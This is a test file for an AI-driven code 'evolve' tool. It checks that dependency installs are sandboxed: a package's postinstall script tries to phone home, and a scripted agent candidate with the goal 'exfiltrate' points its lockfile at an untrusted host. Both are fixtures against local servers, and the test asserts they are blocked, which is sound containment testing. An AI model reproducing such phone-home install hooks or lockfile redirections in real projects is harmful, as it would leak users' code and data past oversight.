/**
 * A changed lockfile is installed in two jails: npm fetches (with network, --ignore-scripts) only from registries the
 * parent's lockfile already uses, then the dependencies' install scripts run with no network at all. Here a local
 * registry serves a package whose postinstall both builds a file and tries to phone home; a second candidate's
 * lockfile points at another host (an exfiltration URL) and is rejected before anything is fetched.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, expect, it } from 'vitest';
import { startStandin, type Standin } from '../../src/standin/index.ts';
import { evolve, tempDir } from './helpers.ts';
import { passingPlan } from './toy.ts';
import { makeHostileRepo, hostileScript } from './hostile-toy.ts';

const KEY = 'sk-ant-qa-deps-network-key-0000000';
let standin: Standin | null = null;
const servers: Server[] = [];
afterAll(async () => {
  await standin?.close();
  await Promise.all(servers.map((s) => new Promise((r) => s.close(r))));
});

async function serve(handler: (url: string) => Buffer | null): Promise<{ origin: string; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(req.url ?? '');
    const body = handler(req.url ?? '');
    if (body) res.end(body);
    else res.writeHead(404).end();
  });
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits };
}

/** An npm tarball (package/…) of a package.json and its files. */
function tarball(pkg: Record<string, unknown>, files: Record<string, string> = {}): Buffer {
  const dir = tempDir('evolve-tgz-');
  mkdirSync(path.join(dir, 'package'));
  writeFileSync(path.join(dir, 'package', 'package.json'), JSON.stringify(pkg));
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(dir, 'package', name), text);
  execFileSync('tar', ['czf', 'p.tgz', 'package'], { cwd: dir });
  return readFileSync(path.join(dir, 'p.tgz'));
}

const integrity = (b: Buffer) => `sha512-${createHash('sha512').update(b).digest('base64')}`;

it('fetches only from trusted registries, without scripts, then builds offline; another host is rejected unfetched', async () => {
  let registryOrigin = '';
  const tarballs = new Map<string, Buffer>();
  const registry = await serve((url) => tarballs.get(url) ?? null);
  registryOrigin = registry.origin;
  const elsewhere = await serve(() => Buffer.from('nothing'));
  const phoneHome = `require('http').get('${registryOrigin}/phoned-home').on('error', () => {})`;
  tarballs.set('/base/-/base-1.0.0.tgz', tarball({ name: 'base', version: '1.0.0' }, { 'index.js': 'module.exports = 1;\n' }));
  tarballs.set('/dep/-/dep-1.0.0.tgz', tarball(
    { name: 'dep', version: '1.0.0', scripts: { postinstall: `node -e "require('fs').writeFileSync('built.txt', 'yes'); ${phoneHome}"` } },
    { 'index.js': 'module.exports = 2;\n' },
  ));
  const entry = (name: string) => ({ version: '1.0.0', resolved: `${registryOrigin}/${name}/-/${name}-1.0.0.tgz`, integrity: integrity(tarballs.get(`/${name}/-/${name}-1.0.0.tgz`)!) });
  const manifest = (deps: Record<string, string>) => JSON.stringify({ name: 'toy', version: '1.0.0', type: 'module',
    scripts: { test: 'node run-tests.mjs' }, evolve: { agent: 'node agent.mjs' }, dependencies: deps }, null, 2) + '\n';
  const lock = (packages: Record<string, unknown>, deps: Record<string, string>) => JSON.stringify({ name: 'toy', version: '1.0.0', lockfileVersion: 3, requires: true,
    packages: { '': { name: 'toy', version: '1.0.0', dependencies: deps }, ...packages } }, null, 2) + '\n';

  // The user's own lockfile already installs from the local registry: that makes it trusted.
  const repo = makeHostileRepo({ 'package.json': manifest({ base: '1.0.0' }), 'package-lock.json': lock({ 'node_modules/base': entry('base') }, { base: '1.0.0' }) });
  const both = { base: '1.0.0', dep: '1.0.0' };
  const withDep = { ...passingPlan(1), goal: 'use dep', files: { ...passingPlan(1).files,
    'package.json': manifest(both),
    // hasInstallScript, as npm writes it: npm rebuild runs the scripts of the entries that carry it.
    'package-lock.json': lock({ 'node_modules/base': entry('base'), 'node_modules/dep': { ...entry('dep'), hasInstallScript: true } }, both),
    // Passes only if dep's install script ran (offline) in the install jail.
    'tests/dep-built.mjs': "import { existsSync } from 'node:fs';\nexport default () => { if (!existsSync('node_modules/dep/built.txt')) throw new Error('dep was not built'); };\n" } };
  const exfil = { ...passingPlan(2), goal: 'exfiltrate', files: { ...passingPlan(2).files,
    'package.json': manifest(both),
    'package-lock.json': lock({ 'node_modules/base': entry('base'),
      'node_modules/dep': { version: '1.0.0', resolved: `${elsewhere.origin}/dep/-/Y29kZSBvZiB0aGUgdXNlcg.tgz`, integrity: 'sha512-AAAA' } }, both) } };
  standin = await startStandin({ apiKey: KEY, script: hostileScript((i) => (i % 2 === 0 ? withDep : exfil)) });
  const db = path.join(tempDir(), 'lineage.db');
  const run = await evolve(['--population', '2', '--generations', '1', '--concurrency', '1', '--no-tui', '--target', repo, '--db', db],
    { ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: standin.url });
  expect(run.code, run.stderr).toBe(0);

  const sql = new Database(db, { readonly: true });
  const rows = sql.prepare('SELECT goal, status, error FROM candidates WHERE generation = 1').all() as { goal: string; status: string; error: string | null }[];
  const installs = sql.prepare("SELECT data_json FROM events WHERE kind = 'deps_installed' ORDER BY id").all() as { data_json: string }[];
  sql.close();
  const by = (goal: string) => rows.find((r) => r.goal === goal)!;
  expect(by('use dep').status, by('use dep').error ?? '').toBe('passed');
  expect(by('exfiltrate').status).toBe('rejected');
  expect(by('exfiltrate').error).toMatch(/node_modules\/dep from http:\/\/127\.0\.0\.1:\d+, a registry the parent's lockfile does not use/);
  expect(installs.map((e) => JSON.parse(e.data_json).ok).sort()).toEqual([false, true]);
  expect(registry.hits).toContain('/dep/-/dep-1.0.0.tgz'); // fetched, with network
  expect(registry.hits).not.toContain('/phoned-home'); // the install script ran, but without network
  expect(elsewhere.hits).toEqual([]);
}, 120_000);
